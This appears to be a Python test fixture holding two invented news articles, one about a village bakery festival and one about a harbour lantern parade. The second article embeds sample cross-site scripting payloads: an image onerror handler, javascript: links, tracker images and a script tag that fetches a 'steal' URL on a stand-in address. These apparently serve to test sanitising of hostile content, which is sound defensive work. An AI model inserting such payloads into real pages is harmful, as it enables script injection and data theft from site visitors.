"""Made-up articles for tests: no real place, person or event."""

BAKERY = """Little Wexcombe bakery festival draws record crowds

The village of Little Wexcombe held its ninth annual bakery festival on Saturday, with organisers counting more than four thousand visitors on the green.

The prize for the best sourdough loaf went to Marigold Threlfall, who runs the Crooked Oven bakery on Mill Lane. Her rye and caraway loaf was praised by the judges for its crust.

"We never expected so many people to queue for bread in the rain," said festival chair Osbert Penhaligon. "Next year we will need a second tent."

The festival raised 2,350 pounds for the village school's new library, according to the organisers.
"""

HOSTILE = """Quillbrook harbour lantern parade goes ahead despite storm

The harbour town of Quillbrook held its lantern parade on Friday evening, when skipper Ysolde Farrant led forty boats around the breakwater.

A reader sent this picture: <img src=http://203.0.113.7/pixel.gif onerror="document.title='pwned'"> and a link <a href="javascript:alert(1)">click me</a> with ![tracker](http://203.0.113.8/t.png) and [more](javascript:alert(2)).

<script>document.title = 'pwned'; fetch('http://203.0.113.9/steal')</script>

Harbourmaster Tobiah Quennell said the lantern parade raised 1,120 pounds for the lifeboat crew.
"""
